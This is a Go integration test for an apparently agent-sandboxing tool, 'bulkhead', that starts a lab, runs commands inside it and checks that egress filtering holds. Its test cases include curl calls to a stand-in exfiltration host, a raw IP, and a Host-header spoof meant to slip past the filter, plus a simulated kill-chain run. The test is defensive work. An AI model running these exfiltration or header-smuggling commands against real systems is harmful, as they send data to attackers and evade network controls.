package main

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/bulkhead-dev/bulkhead/tests/lab"
	"github.com/bulkhead-dev/bulkhead/tests/lab/keeper"
	"github.com/bulkhead-dev/bulkhead/tests/lab/killchain"
)

// TestLab brings a lab up with the built binary, uses it and takes it down, as the
// README tells a newcomer to.
func TestLab(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	binary, err := lab.Build(ctx, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	run := t.TempDir()
	bulkhead := func(args ...string) (string, string, int) {
		cmd := exec.CommandContext(ctx, binary, args...)
		cmd.Env = append(os.Environ(), "XDG_RUNTIME_DIR="+run)
		var out, errOut strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &errOut
		err := cmd.Run()
		var exit *exec.ExitError
		if err != nil && !errors.As(err, &exit) {
			t.Fatal(err)
		}
		return out.String(), errOut.String(), cmd.ProcessState.ExitCode()
	}
	t.Cleanup(func() { keeper.Stop(context.Background(), run+"/bulkhead-lab") })

	if out, errOut, code := bulkhead("lab", "up"); code != 0 || !strings.Contains(out, "The lab is up") {
		t.Fatalf("up: %d\n%s%s", code, out, errOut)
	}
	if _, errOut, code := bulkhead("lab", "up"); code != 1 || !strings.Contains(errOut, "already up") {
		t.Errorf("second up: %d\n%s", code, errOut)
	}
	for _, tc := range []struct {
		args []string
		code int
		out  string
	}{
		{[]string{"curl", "-sS", "--fail", "https://api.github.com/user"}, 0, `"sni":"api.github.com"`},
		{[]string{"--", "curl", "-sS", "https://exfil.attacker.example/"}, 6, ""}, // curl: could not resolve host
		{[]string{"--", "curl", "-sS", "https://45.146.10.66/"}, 7, ""},           // curl: failed to connect
		{[]string{"--", "curl", "-sS", "http://packages.contoso.com/", "-H", "Host: exfil.attacker.example"}, 0, `"egress denied"`},
		{[]string{"--", "sh", "-c", "exit 9"}, 9, ""},
	} {
		out, errOut, code := bulkhead(append([]string{"lab", "exec", lab.InvoiceAgent}, tc.args...)...)
		if code != tc.code || !strings.Contains(out, tc.out) {
			t.Errorf("%q: exit %d, want %d\n%s%s", tc.args, code, tc.code, out, errOut)
		}
	}
	out, errOut, code := bulkhead("lab", "attack", "--json")
	var results []killchain.Result
	if err := json.Unmarshal([]byte(out), &results); err != nil || code != 0 || len(results) != len(killchain.Steps()) {
		t.Errorf("attack: %d, %v\n%s%s", code, err, out, errOut)
	}
	if out, errOut, code := bulkhead("lab", "down"); code != 0 || !strings.Contains(out, "The lab is down") {
		t.Errorf("down: %d\n%s%s", code, out, errOut)
	}
}
